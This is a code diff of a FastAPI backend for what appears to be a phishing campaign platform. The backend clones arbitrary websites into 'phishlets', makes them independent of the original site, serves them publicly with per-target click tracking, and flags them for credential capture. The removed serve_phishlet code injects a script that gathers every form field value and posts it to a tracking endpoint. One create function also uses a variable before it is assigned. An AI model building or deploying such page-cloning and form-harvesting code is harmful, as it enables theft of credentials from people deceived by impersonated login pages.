@@ -1,11 +1,10 @@
 from random import random
 from uuid import uuid4, UUID
-from fastapi import APIRouter, HTTPException, status, Depends, Request, UploadFile, File, Form
-from fastapi.responses import JSONResponse,HTMLResponse
+from fastapi import APIRouter, HTTPException, status, Depends, Request, Response, UploadFile, File, Form
+from fastapi.responses import JSONResponse,HTMLResponse,FileResponse
 from pydantic import BaseModel, HttpUrl
 from typing import Optional, List, Dict, Any, Union
 import json
-import requests
 from bs4 import BeautifulSoup
 import re
 from urllib.parse import urljoin, urlparse
@@ -14,6 +13,12 @@ import base64
 from database import db
 from auth import get_current_user
 from utils.activity_logger import ActivityLogger
+from utils.phishlet_cache import phishlet_cache
+from utils.counters import bump_counters, bump_daily, is_unset
+from utils.cloner import website_cloner, CLONE_ASSET_MODE, CLONE_ASSET_DIR, ASSET_MODES
+from utils.offload import db_endpoint, run_cpu, run_db
+from utils.user_directory import user_directory
+from utils.pagination import Page
 import os
 import dotenv
 dotenv.load_dotenv()
@@ -46,6 +51,7 @@ class PhishletCloneRequest(BaseModel):
     capture_credentials: bool = True
     capture_other_data: bool = True
     redirect_url: Optional[HttpUrl] = None
+    asset_mode: Optional[str] = None  # 'link', 'inline' or 'store'; defaults to CLONE_ASSET_MODE
 
 class PhishletPreviewRequest(BaseModel):
     html_content: str
@@ -154,20 +160,21 @@ def convert_urls_to_absolute(html_content: str, base_url: str) -> str:
     
     return str(soup)
 
-def clone_website(url: str) -> Dict[str, str]:
+async def clone_website(url: str, asset_mode: Optional[str] = None) -> Dict[str, str]:
     """Clone a website and return HTML content with all URLs converted to absolute"""
+    if asset_mode is not None and asset_mode not in ASSET_MODES:
+        raise HTTPException(
+            status_code=status.HTTP_400_BAD_REQUEST,
+            detail=f"asset_mode must be one of: {', '.join(ASSET_MODES)}"
+        )
     try:
-        headers = {
-            'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36'
-        }
-        
-        response = requests.get(url, headers=headers, timeout=10)
-        response.raise_for_status()
-        
-        html_content = response.text
+        html_content = await website_cloner.fetch_page(url)
         
         # Convert all relative URLs to absolute URLs pointing to the original website
         html_content = convert_urls_to_absolute(html_content, url)
+
+        # Optionally inline or store CSS/JS/images so the clone does not depend on the origin
+        html_content = await website_cloner.localize_assets(html_content, asset_mode or CLONE_ASSET_MODE)
         
         return {
             'html': html_content,
@@ -181,13 +188,6 @@ def clone_website(url: str) -> Dict[str, str]:
         )
 
 
-def checkIfAdmin(user_id: int) -> bool:
-    """Check if a user is admin"""
-    user = db(db.users.id == user_id).select().first()
-    return user.is_admin if user else False
-
-
-
 @router.post("/", response_model=PhishletResponse, status_code=status.HTTP_201_CREATED)
 async def create_phishlet(
     phishlet_data: PhishletCreate,
@@ -197,10 +197,10 @@ async def create_phishlet(
     """Create a new phishlet"""
     
     # Check if phishlet name already exists for this user
-    existing_phishlet = db(
+    existing_phishlet = await run_db(lambda: db(
         (db.phishlets.user_id == current_user.id) & 
         (db.phishlets.name == phishlet_data.name)
-    ).select().first()
+    ).select().first())
     
     if existing_phishlet:
         raise HTTPException(
@@ -211,49 +211,52 @@ async def create_phishlet(
     # Extract form fields if HTML content is provided
     form_fields = []
     if phishlet_data.html_content:
-        form_fields = extract_form_fields(phishlet_data.html_content, str(phishlet_data.original_url))
-    
-    # Create the phishlet first
-    url_id=new_phishlet.url_id,
-    phishlet_id = db.phishlets.insert(
-        url_id=url_id,
-        name=phishlet_data.name,
-        description=phishlet_data.description,
-        user_id=current_user.id,
-        original_url=str(phishlet_data.original_url),
-        clone_url="",  # Will be updated after creation
-        html_content=phishlet_data.html_content,
-        css_content=None,  # No longer needed
-        js_content=None,   # No longer needed
-        form_fields=json.dumps(form_fields),
-        capture_credentials=phishlet_data.capture_credentials,
-        capture_other_data=phishlet_data.capture_other_data,
-        redirect_url=str(phishlet_data.redirect_url) if phishlet_data.redirect_url else None,
-        is_active=phishlet_data.is_active
-    )
-    db.commit()
-    
-    # Generate clone URL with the actual phishlet ID
-    clone_url = f"{os.getenv('BACKEND_URL')}/api/v1/phishlets/serve/{url_id}"
-    
-    # Update the phishlet with the correct clone URL
-    db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
-    db.commit()
-    
-    # Get the created phishlet
-    new_phishlet = db.phishlets(phishlet_id)
+        form_fields = await run_cpu(extract_form_fields, phishlet_data.html_content, str(phishlet_data.original_url))
     
-    # Log activity
-    if request:
-        client_ip = request.client.host if request.client else None
-        user_agent = request.headers.get("user-agent")
-        ActivityLogger.log_phishlet_created(
-            current_user.id, 
-            phishlet_id, 
-            phishlet_data.name, 
-            client_ip, 
-            user_agent
+    def create():
+        # Create the phishlet first
+        url_id=new_phishlet.url_id,
+        phishlet_id = db.phishlets.insert(
+            url_id=url_id,
+            name=phishlet_data.name,
+            description=phishlet_data.description,
+            user_id=current_user.id,
+            original_url=str(phishlet_data.original_url),
+            clone_url="",  # Will be updated after creation
+            html_content=phishlet_data.html_content,
+            css_content=None,  # No longer needed
+            js_content=None,   # No longer needed
+            form_fields=json.dumps(form_fields),
+            capture_credentials=phishlet_data.capture_credentials,
+            capture_other_data=phishlet_data.capture_other_data,
+            redirect_url=str(phishlet_data.redirect_url) if phishlet_data.redirect_url else None,
+            is_active=phishlet_data.is_active
         )
+        
+        # Generate clone URL with the actual phishlet ID
+        clone_url = f"{os.getenv('BACKEND_URL')}/api/v1/phishlets/serve/{url_id}"
+        
+        # Update the phishlet with the correct clone URL
+        db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
+        
+        # Log activity
+        if request:
+            client_ip = request.client.host if request.client else None
+            user_agent = request.headers.get("user-agent")
+            ActivityLogger.log_phishlet_created(
+                current_user.id, 
+                phishlet_id, 
+                phishlet_data.name, 
+                client_ip, 
+                user_agent,
+                is_admin=current_user.is_admin
+            )
+        
+        # Get the created phishlet
+        return db.phishlets(phishlet_id)
+    
+    new_phishlet = await run_db(create)
+    await run_cpu(phishlet_cache.warm, new_phishlet)
     
     return PhishletResponse(
         id=new_phishlet.id,
@@ -266,7 +269,7 @@ async def create_phishlet(
         capture_other_data=new_phishlet.capture_other_data,
         redirect_url=new_phishlet.redirect_url,
         is_active=new_phishlet.is_active,
-        is_admin=checkIfAdmin(new_phishlet.user_id),
+        is_admin=await run_db(user_directory.is_admin, new_phishlet.user_id),
         created_at=new_phishlet.created_at,
         updated_at=new_phishlet.updated_at
     )
@@ -280,10 +283,10 @@ async def clone_website_to_phishlet(
     """Clone a website and create a phishlet from it"""
     
     # Check if phishlet name already exists for this user
-    existing_phishlet = db(
+    existing_phishlet = await run_db(lambda: db(
         (db.phishlets.user_id == current_user.id) & 
         (db.phishlets.name == clone_data.name)
-    ).select().first()
+    ).select().first())
     
     if existing_phishlet:
         raise HTTPException(
@@ -293,53 +296,56 @@ async def clone_website_to_phishlet(
     
     # Clone the website
     original_url = str(clone_data.original_url)
-    cloned_content = clone_website(original_url)
+    cloned_content = await clone_website(original_url, clone_data.asset_mode)
     
     # Extract form fields
-    form_fields = extract_form_fields(cloned_content['html'], original_url)
-    
-    # Create the phishlet first
-    random_uuid = str(uuid4())
-    phishlet_id = db.phishlets.insert(
-        name=clone_data.name,
-        url_id=random_uuid,
-        description=clone_data.description,
-        user_id=current_user.id,
-        original_url=original_url,
-        clone_url="",  # Will be updated after creation
-        html_content=cloned_content['html'],
-        css_content=None,  # No longer needed
-        js_content=None,   # No longer needed
-        form_fields=json.dumps(form_fields),
-        capture_credentials=clone_data.capture_credentials,
-        capture_other_data=clone_data.capture_other_data,
-        redirect_url=str(clone_data.redirect_url) if clone_data.redirect_url else None,
-        is_active=True
-    )
-    db.commit()
-    
-    # Generate clone URL with the actual phishlet ID
-   
-    clone_url = f"{os.getenv('BACKEND_URL', 'http://localhost:8000')}/api/v1/phishlets/serve/{random_uuid}"
-    
-    # Update the phishlet with the correct clone URL
-    db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
-    db.commit()
-    
-    # Get the created phishlet
-    new_phishlet = db.phishlets(phishlet_id)
-    
-    # Log activity
-    if request:
-        client_ip = request.client.host if request.client else None
-        user_agent = request.headers.get("user-agent")
-        ActivityLogger.log_phishlet_created(
-            current_user.id, 
-            phishlet_id, 
-            clone_data.name, 
-            client_ip, 
-            user_agent
+    form_fields = await run_cpu(extract_form_fields, cloned_content['html'], original_url)
+    
+    def create():
+        # Create the phishlet first
+        random_uuid = str(uuid4())
+        phishlet_id = db.phishlets.insert(
+            name=clone_data.name,
+            url_id=random_uuid,
+            description=clone_data.description,
+            user_id=current_user.id,
+            original_url=original_url,
+            clone_url="",  # Will be updated after creation
+            html_content=cloned_content['html'],
+            css_content=None,  # No longer needed
+            js_content=None,   # No longer needed
+            form_fields=json.dumps(form_fields),
+            capture_credentials=clone_data.capture_credentials,
+            capture_other_data=clone_data.capture_other_data,
+            redirect_url=str(clone_data.redirect_url) if clone_data.redirect_url else None,
+            is_active=True
         )
+        
+        # Generate clone URL with the actual phishlet ID
+       
+        clone_url = f"{os.getenv('BACKEND_URL', 'http://localhost:8000')}/api/v1/phishlets/serve/{random_uuid}"
+        
+        # Update the phishlet with the correct clone URL
+        db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
+        
+        # Log activity
+        if request:
+            client_ip = request.client.host if request.client else None
+            user_agent = request.headers.get("user-agent")
+            ActivityLogger.log_phishlet_created(
+                current_user.id, 
+                phishlet_id, 
+                clone_data.name, 
+                client_ip, 
+                user_agent,
+                is_admin=current_user.is_admin
+            )
+        
+        # Get the created phishlet
+        return db.phishlets(phishlet_id)
+    
+    new_phishlet = await run_db(create)
+    await run_cpu(phishlet_cache.warm, new_phishlet)
     
     return PhishletResponse(
         id=new_phishlet.id,
@@ -352,42 +358,37 @@ async def clone_website_to_phishlet(
         capture_other_data=new_phishlet.capture_other_data,
         redirect_url=new_phishlet.redirect_url,
         is_active=new_phishlet.is_active,
-        is_admin=checkIfAdmin(new_phishlet.user_id),
+        is_admin=await run_db(user_directory.is_admin, new_phishlet.user_id),
         created_at=new_phishlet.created_at,
         updated_at=new_phishlet.updated_at
     )
 
 @router.get("/", response_model=List[PhishletResponse])
-async def list_phishlets(current_user = Depends(get_current_user)):
-    """List all phishlets for the current user"""
+@db_endpoint
+def list_phishlets(
+    response: Response,
+    page: Page = Depends(),
+    current_user = Depends(get_current_user)
+):
+    """List phishlets for the current user and admins, one page at a time (without html_content)"""
+    page.want(PhishletResponse)
     
-    # phishlets = db(db.phishlets.user_id == current_user.id).select()
-    query= (db.phishlets.user_id == current_user.id)
+    query = (db.phishlets.user_id == current_user.id)
     if not current_user.is_admin:
-        admin_ids = [user.id for user in db(db.users.is_admin == True).select()]
-        query|= (db.phishlets.user_id.belongs(admin_ids))
-        phishlets = db(query).select()
+        admin_ids = user_directory.admin_ids()
+        query |= (db.phishlets.user_id.belongs(admin_ids))
     else:
-        phishlets = db(db.phishlets).select()
-    # print(phishlets)
-    return [
-        PhishletResponse(
-            id=phishlet.id,
-            name=phishlet.name,
-            description=phishlet.description,
-            original_url=phishlet.original_url,
-            clone_url=phishlet.clone_url,
-            form_fields=json.loads(phishlet.form_fields) if phishlet.form_fields else None,
-            capture_credentials=phishlet.capture_credentials,
-            capture_other_data=phishlet.capture_other_data,
-            redirect_url=phishlet.redirect_url,
-            is_active=phishlet.is_active,
-            is_admin=checkIfAdmin(phishlet.user_id),
-            created_at=phishlet.created_at,
-            updated_at=phishlet.updated_at
+        query = db.phishlets.id > 0
+    phishlets = page.select(db.phishlets, query, {"is_admin": ("user_id",)})
+    admins = user_directory.admin_flags(phishlet.user_id for phishlet in phishlets) if page.wants("is_admin") else {}
+    return page.respond(response, [
+        dict(
+            phishlet.as_dict(),
+            form_fields=json.loads(phishlet.form_fields) if phishlet.get("form_fields") else None,
+            is_admin=admins.get(phishlet.get("user_id"), False)
         )
         for phishlet in phishlets
-    ]
+    ])
 
 # Move specific routes before parameterized routes to avoid conflicts
 @router.post("/upload-html")
@@ -408,7 +409,7 @@ async def upload_html_file(
         html_content = content.decode('utf-8')
         
         # Extract form fields
-        form_fields = extract_form_fields(html_content, "file://" + file.filename)
+        form_fields = await run_cpu(extract_form_fields, html_content, "file://" + file.filename)
         
         return {
             "html_content": html_content,
@@ -430,7 +431,7 @@ async def preview_phishlet(
     
     try:
         # Extract form fields
-        form_fields = extract_form_fields(preview_data.html_content, preview_data.original_url)
+        form_fields = await run_cpu(extract_form_fields, preview_data.html_content, preview_data.original_url)
         
         return {
             "html_content": preview_data.html_content,
@@ -452,10 +453,10 @@ async def save_phishlet(
     """Save a phishlet after preview and editing"""
     
     # Check if phishlet name already exists for this user
-    existing_phishlet = db(
+    existing_phishlet = await run_db(lambda: db(
         ((db.phishlets.user_id == current_user.id)) & 
         (db.phishlets.name == save_data.name)
-    ).select().first()
+    ).select().first())
     
     if existing_phishlet:
         raise HTTPException(
@@ -464,49 +465,52 @@ async def save_phishlet(
         )
     
     # Extract form fields
-    form_fields = extract_form_fields(save_data.html_content, save_data.original_url)
-    
-    # Create the phishlet first
-    url_id = str(uuid4())
-    phishlet_id = db.phishlets.insert(
-        name=save_data.name,
-        url_id=url_id,
-        description=save_data.description,
-        user_id=current_user.id,
-        original_url=save_data.original_url,
-        clone_url="",  # Will be updated after creation
-        html_content=save_data.html_content,
-        css_content=None,  # No longer needed
-        js_content=None,   # No longer needed
-        form_fields=json.dumps(form_fields),
-        capture_credentials=save_data.capture_credentials,
-        capture_other_data=save_data.capture_other_data,
-        redirect_url=save_data.redirect_url,
-        is_active=save_data.is_active
-    )
-    db.commit()
-    
-    # Generate clone URL with the actual phishlet ID
-    clone_url = f"{os.getenv('BACKEND_URL', 'http://localhost:8000')}/api/v1/phishlets/serve/{url_id}"
-    
-    # Update the phishlet with the correct clone URL
-    db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
-    db.commit()
-    
-    # Get the created phishlet
-    new_phishlet = db.phishlets(phishlet_id)
-    
-    # Log activity
-    if request:
-        client_ip = request.client.host if request.client else None
-        user_agent = request.headers.get("user-agent")
-        ActivityLogger.log_phishlet_created(
-            current_user.id, 
-            phishlet_id, 
-            save_data.name, 
-            client_ip, 
-            user_agent
+    form_fields = await run_cpu(extract_form_fields, save_data.html_content, save_data.original_url)
+    
+    def create():
+        # Create the phishlet first
+        url_id = str(uuid4())
+        phishlet_id = db.phishlets.insert(
+            name=save_data.name,
+            url_id=url_id,
+            description=save_data.description,
+            user_id=current_user.id,
+            original_url=save_data.original_url,
+            clone_url="",  # Will be updated after creation
+            html_content=save_data.html_content,
+            css_content=None,  # No longer needed
+            js_content=None,   # No longer needed
+            form_fields=json.dumps(form_fields),
+            capture_credentials=save_data.capture_credentials,
+            capture_other_data=save_data.capture_other_data,
+            redirect_url=save_data.redirect_url,
+            is_active=save_data.is_active
         )
+        
+        # Generate clone URL with the actual phishlet ID
+        clone_url = f"{os.getenv('BACKEND_URL', 'http://localhost:8000')}/api/v1/phishlets/serve/{url_id}"
+        
+        # Update the phishlet with the correct clone URL
+        db(db.phishlets.id == phishlet_id).update(clone_url=clone_url)
+        
+        # Log activity
+        if request:
+            client_ip = request.client.host if request.client else None
+            user_agent = request.headers.get("user-agent")
+            ActivityLogger.log_phishlet_created(
+                current_user.id, 
+                phishlet_id, 
+                save_data.name, 
+                client_ip, 
+                user_agent,
+                is_admin=current_user.is_admin
+            )
+        
+        # Get the created phishlet
+        return db.phishlets(phishlet_id)
+    
+    new_phishlet = await run_db(create)
+    await run_cpu(phishlet_cache.warm, new_phishlet)
     
     return PhishletResponse(
         id=new_phishlet.id,
@@ -527,15 +531,16 @@ async def save_phishlet(
 @router.post("/clone-preview")
 async def clone_website_preview(
     url: str = Form(...),
+    asset_mode: Optional[str] = Form(None),
     current_user = Depends(get_current_user)
 ):
     """Clone a website and return content for preview"""
     
     try:
-        cloned_content = clone_website(url)
+        cloned_content = await clone_website(url, asset_mode)
         
         # Extract form fields
-        form_fields = extract_form_fields(cloned_content['html'], url)
+        form_fields = await run_cpu(extract_form_fields, cloned_content['html'], url)
         
         return {
             "html_content": cloned_content['html'],
@@ -549,7 +554,8 @@ async def clone_website_preview(
         )
 
 @router.get("/{phishlet_id}", response_model=PhishletResponse)
-async def get_phishlet(
+@db_endpoint
+def get_phishlet(
     phishlet_id: int    ,
     current_user = Depends(get_current_user)
 ):
@@ -577,7 +583,7 @@ async def get_phishlet(
         capture_other_data=phishlet.capture_other_data,
         redirect_url=phishlet.redirect_url,
         is_active=phishlet.is_active,
-        is_admin=checkIfAdmin(phishlet.user_id),
+        is_admin=user_directory.is_admin(phishlet.user_id),
         created_at=phishlet.created_at,
         updated_at=phishlet.updated_at
     )
@@ -591,71 +597,78 @@ async def update_phishlet(
 ):
     """Update a phishlet"""
     
-    phishlet = db(
-        (db.phishlets.id == phishlet_id) & 
-        ((db.phishlets.user_id == current_user.id) | (current_user.is_admin))
-    ).select().first()
-    
-    if not phishlet:
-        raise HTTPException(
-            status_code=status.HTTP_404_NOT_FOUND,
-            detail="Phishlet not found"
-        )
-    
-    # Prepare update data
-    update_data = {}
-    
-    if phishlet_data.name is not None:
-        # Check if name already exists for this user
-        existing_phishlet = db(
-            (db.phishlets.user_id == current_user.id) & 
-            (db.phishlets.name == phishlet_data.name) &
-            (db.phishlets.id != phishlet_id)
+    def update():
+        phishlet = db(
+            (db.phishlets.id == phishlet_id) & 
+            ((db.phishlets.user_id == current_user.id) | (current_user.is_admin))
         ).select().first()
-        
-        if existing_phishlet:
+    
+        if not phishlet:
             raise HTTPException(
-                status_code=status.HTTP_400_BAD_REQUEST,
-                detail="A phishlet with this name already exists"
+                status_code=status.HTTP_404_NOT_FOUND,
+                detail="Phishlet not found"
             )
-        update_data['name'] = phishlet_data.name
-    
-    if phishlet_data.description is not None:
-        update_data['description'] = phishlet_data.description
-    
-    if phishlet_data.capture_credentials is not None:
-        update_data['capture_credentials'] = phishlet_data.capture_credentials
-    
-    if phishlet_data.capture_other_data is not None:
-        update_data['capture_other_data'] = phishlet_data.capture_other_data
     
-    if phishlet_data.redirect_url is not None:
-        update_data['redirect_url'] = str(phishlet_data.redirect_url)
+        # Prepare update data
+        update_data = {}
     
-    if phishlet_data.is_active is not None:
-        update_data['is_active'] = phishlet_data.is_active
-    
-    # Add updated_at timestamp
-    update_data['updated_at'] = datetime.utcnow()
-    
-    # Update the phishlet
-    db(db.phishlets.id == phishlet_id).update(**update_data)
-    db.commit()
+        if phishlet_data.name is not None:
+            # Check if name already exists for this user
+            existing_phishlet = db(
+                (db.phishlets.user_id == current_user.id) & 
+                (db.phishlets.name == phishlet_data.name) &
+                (db.phishlets.id != phishlet_id)
+            ).select().first()
+        
+            if existing_phishlet:
+                raise HTTPException(
+                    status_code=status.HTTP_400_BAD_REQUEST,
+                    detail="A phishlet with this name already exists"
+                )
+            update_data['name'] = phishlet_data.name
+    
+        if phishlet_data.description is not None:
+            update_data['description'] = phishlet_data.description
+    
+        if phishlet_data.capture_credentials is not None:
+            update_data['capture_credentials'] = phishlet_data.capture_credentials
+    
+        if phishlet_data.capture_other_data is not None:
+            update_data['capture_other_data'] = phishlet_data.capture_other_data
+    
+        if phishlet_data.redirect_url is not None:
+            update_data['redirect_url'] = str(phishlet_data.redirect_url)
+    
+        if phishlet_data.is_active is not None:
+            update_data['is_active'] = phishlet_data.is_active
+    
+        # Add updated_at timestamp
+        update_data['updated_at'] = datetime.utcnow()
+    
+        # Update the phishlet
+        db(db.phishlets.id == phishlet_id).update(**update_data)
+    
+        # Get the updated phishlet
+        updated_phishlet = db.phishlets(phishlet_id)
+    
+        # Log activity
+        if request:
+            client_ip = request.client.host if request.client else None
+            user_agent = request.headers.get("user-agent")
+            ActivityLogger.log_phishlet_updated(
+                current_user.id, 
+                phishlet_id, 
+                updated_phishlet.name, 
+                client_ip, 
+                user_agent,
+                is_admin=current_user.is_admin
+            )
     
-    # Get the updated phishlet
-    updated_phishlet = db.phishlets(phishlet_id)
+        return updated_phishlet
     
-    # Log activity
-    if request:
-        client_ip = request.client.host if request.client else None
-        user_agent = request.headers.get("user-agent")
-        ActivityLogger.log_phishlet_updated(
-            current_user.id, 
-            phishlet_id, 
-            updated_phishlet.name, 
-            client_ip, 
-            user_agent
-        )
+    updated_phishlet = await run_db(update)
+    # Compile after the commit, on the CPU pool, as the create paths do
+    await run_cpu(phishlet_cache.warm, updated_phishlet)
     
     return PhishletResponse(
         id=updated_phishlet.id,
@@ -668,13 +681,14 @@ async def update_phishlet(
         capture_other_data=updated_phishlet.capture_other_data,
         redirect_url=updated_phishlet.redirect_url,
         is_active=updated_phishlet.is_active,
-        is_admin=checkIfAdmin(updated_phishlet.user_id),
+        is_admin=await run_db(user_directory.is_admin, updated_phishlet.user_id),
         created_at=updated_phishlet.created_at,
         updated_at=updated_phishlet.updated_at
     )
 
 @router.delete("/{phishlet_id}", status_code=status.HTTP_204_NO_CONTENT)
-async def delete_phishlet(
+@db_endpoint
+def delete_phishlet(
     phishlet_id: int,
     current_user = Depends(get_current_user),
     request: Request = None
@@ -701,17 +715,19 @@ async def delete_phishlet(
             phishlet_id, 
             phishlet.name, 
             client_ip, 
-            user_agent
+            user_agent,
+            is_admin=current_user.is_admin
         )
     
     # Delete the phishlet
     db(db.phishlets.id == phishlet_id).delete()
-    db.commit()
+    phishlet_cache.invalidate(phishlet.url_id)
     
     return None
 
 @router.get("/{phishlet_id}/content")
-async def get_phishlet_content(
+@db_endpoint
+def get_phishlet_content(
     phishlet_id: int,
     current_user = Depends(get_current_user)
 ):
@@ -777,29 +793,50 @@ def replace_buttons_with_divs(html):
 
 
 
+@router.get("/assets/{filename}")
+async def serve_phishlet_asset(filename: str):
+    """Serve an asset stored by the cloner (public endpoint, no authentication required)"""
+    # Stored assets are named by content hash, so they never change
+    path = os.path.join(CLONE_ASSET_DIR, os.path.basename(filename))
+    if not os.path.isfile(path):
+        raise HTTPException(
+            status_code=status.HTTP_404_NOT_FOUND,
+            detail="Asset not found"
+        )
+    return FileResponse(path, headers={"Cache-Control": "public, max-age=31536000, immutable"})
+
+
 @router.get("/serve/{url_id}")
 async def serve_phishlet(url_id: str):
     """Serve a phishlet as a web page (public endpoint, no authentication required)"""
     url_contents = url_id.split('*')
-    print(url_contents)
+    campaign_id = tracker_id = None
     if(len(url_contents)==3):
         campaign_id = int(url_contents[1])
         tracker_id = int(url_contents[2])
-        campaign_result = db(
-            (db.campaign_results.campaign_id == campaign_id) &
-            (db.campaign_results.target_id == tracker_id)
-        ).select().first()
 
-        print("****EMAIL TRACKED****")
-        if campaign_result:
-            # Update tracking fields
-            campaign_result.update_record(
-                link_clicked=True,
-                link_clicked_at=campaign_result.email_opened_at or datetime.utcnow()
-            )
-            db.commit()
-    
-    phishlet = db(db.phishlets.url_id == url_contents[0]).select().first()
+    def record_click_and_find():
+        if campaign_id is not None:
+            campaign_result = db(
+                (db.campaign_results.campaign_id == campaign_id) &
+                (db.campaign_results.target_id == tracker_id)
+            ).select().first()
+
+            if campaign_result:
+                # Update tracking fields; only the first click moves the counters
+                if db((db.campaign_results.id == campaign_result.id) & is_unset(db.campaign_results.link_clicked)).update(
+                    link_clicked=True,
+                    link_clicked_at=campaign_result.email_opened_at or datetime.utcnow()
+                ):
+                    bump_counters(campaign_id, clicks=1)
+                    bump_daily(campaign_id, campaign_result.email_sent_at, clicks=1)
+        
+        # Only fetch the page body when the compiled version is not cached
+        return db(db.phishlets.url_id == url_contents[0]).select(
+            db.phishlets.id, db.phishlets.updated_at
+        ).first()
+
+    phishlet = await run_db(record_click_and_find)
 
     if not phishlet:
         raise HTTPException(
@@ -807,88 +844,14 @@ async def serve_phishlet(url_id: str):
             detail="Phishlet not found"
         )
     
-    if not phishlet.html_content:
-        raise HTTPException(
-            status_code=status.HTTP_404_NOT_FOUND,
-            detail="Phishlet has no HTML content"
-        )
-    soup = None
-    if(len(url_contents)==3):
-        # phishlet.html_content = phishlet.html_content.replace('<form', '<div')
-        # phishlet.html_content = phishlet.html_content.replace('</form>', '</div>')
-
-
-        # if "<form" in phishlet.html_content:
-        #     print("it is there***")
-        # else:
-        #     print("not thereeeeeee")
-        # print(html_content)
-        
-        soup = BeautifulSoup(phishlet.html_content, 'html.parser')
-        # soup = replace_buttons_with_divs(phishlet.html_content)
-
-        script_tag = soup.new_tag('script')
-        track_src=os.getenv("BACKEND_URL","http://localhost:8000")
-        script_tag.string = f"""
-        function sendFormData() {{
-            const data = {{}};
-            const elements = document.querySelectorAll('input, select, textarea');
-            elements.forEach(el => {{
-                if (el.name || el.id || el.tagName) {{
-                    const key = el.name || el.id || el.tagName;
-                    let value = el.value;
-
-                    if (el.type === 'checkbox' || el.type === 'radio') {{
-                        value = el.checked;
-                    }}
-
-                    data[key] = {{
-                        "type": el.tagName.toLowerCase(),
-                        "value": value,
-                        "id": el.id || "",
-                        "required": el.required || false,
-                        "placeholder": el.placeholder || ""
-                    }};
-                }}
-            }});
-
-            const payload = {{ fields: data }};
-            console.log("Payload:", payload);
-
-            fetch("{track_src}/api/v1/track/f2/{campaign_id}*{tracker_id}", {{
-                method: "POST",
-                headers: {{
-                    "Content-Type": "application/json"
-                }},
-                body: JSON.stringify(payload)
-            }});
-        }}
-        """
-
-        if soup.body:
-            soup.body.append(script_tag)
-        elif soup.head:
-            soup.head.append(script_tag)
-        else:
-            soup.append(script_tag)
-        buttons = soup.find_all(['button','a','h1'])
-        for button in buttons:
-            button['onclick'] = "sendFormData()"
-        # inputs = soup.find_all(['input'])
-        # for input in inputs:
-        #     input['onChange'] = "sendFo"
-        
-            
-        # print("soup",soup)
-    else:
-        print("No email tracking")
-        
-        soup = BeautifulSoup(phishlet.html_content, 'html.parser')
-        
-
+    compiled = phishlet_cache.get(url_contents[0], phishlet.updated_at)
+    if compiled is None:
+        html_content = await run_db(lambda: db.phishlets(phishlet.id).html_content)
+        if not html_content:
+            raise HTTPException(
+                status_code=status.HTTP_404_NOT_FOUND,
+                detail="Phishlet has no HTML content"
+            )
+        compiled = await run_cpu(phishlet_cache.put, url_contents[0], phishlet.updated_at, html_content)
 
-    # Create the complete HTML document
-    # submit_buttons = soup.find_all('button')
-    html_document = str(soup)
-    print(html_document)
-    return HTMLResponse(content=html_document)
\ No newline at end of file
+    return HTMLResponse(content=compiled.render(campaign_id, tracker_id))